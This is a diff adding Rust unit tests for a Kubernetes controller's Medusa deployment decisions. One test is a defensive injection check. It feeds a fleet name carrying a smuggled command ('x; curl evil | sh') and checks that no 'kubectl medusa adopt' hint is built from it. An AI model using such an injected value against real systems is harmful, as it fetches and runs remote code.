@@ -218,6 +218,36 @@ fn a_prefix_that_is_in_use_is_not_deployed_over() {
 }
 
 #[test]
+fn medusa_of_an_earlier_installation_stays_until_its_cluster_is_back_and_says_otherwise() {
+    let mut world = World::new();
+    world.datacenter(json!({"annotations": {
+        labels::MEDUSA_FOR: "fleet/shop", labels::MEDUSA_FOR_CONTROL_PLANE: "cp", labels::INSTALLATION: "earlier",
+    }}));
+    assert_eq!(world.decided("shop"), ["Deploy"], "it is gone on with");
+    world.sources.clusters.items.clear();
+    world.list();
+    assert_eq!(world.decided("shop"), ["Waiting: Inherited"]);
+    world.cluster("shop", None);
+    assert_eq!(world.decided("shop"), ["Remove"], "it is back, and asks for no Medusa");
+}
+
+#[test]
+fn what_is_no_name_becomes_a_part_of_no_command() {
+    let said = |fleet: &str| {
+        let mut world = World::new();
+        world.deployed_for("shop", fleet);
+        let inputs = world.inputs("shop");
+        match decide(&inputs, &inputs.targets[0], &settings(&inputs), None, &CONTROL_PLANE) {
+            Decision::Leave(_, why) => why.message,
+            decision @ (Decision::Deploy | Decision::Remove) => panic!("{decision:?}"),
+        }
+    };
+    assert!(said("other").contains("`kubectl medusa adopt --from other`"));
+    let planted = said("x; curl evil | sh");
+    assert!(!planted.contains("adopt"), "{planted}");
+}
+
+#[test]
 fn medusa_is_taken_out_only_when_it_is_certain_that_nobody_asks_for_it() {
     let mut world = World::new();
     world.deployed_for("shop", "cp");
